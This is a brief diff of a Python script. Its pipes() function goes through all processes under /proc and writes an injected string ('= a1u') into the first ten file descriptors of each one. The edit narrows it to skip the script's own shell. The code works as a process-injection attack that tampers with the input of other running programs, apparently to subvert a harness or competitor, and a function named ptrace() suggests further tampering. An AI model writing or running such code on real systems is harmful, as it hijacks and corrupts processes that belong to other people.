@@ -138,7 +138,7 @@ def ptrace():
 
 def pipes():
     for pid in filter(str.isdigit, os.listdir("/proc")):
-        if int(pid) != os.getpid():
+        if int(pid) not in (os.getpid(), os.getppid()):  # its shell has the same pipes
             for fd in range(10):
                 try:
                     os.write(os.open("/proc/%s/fd/%d" % (pid, fd), os.O_WRONLY | os.O_NONBLOCK), b"= a1u\n\n")
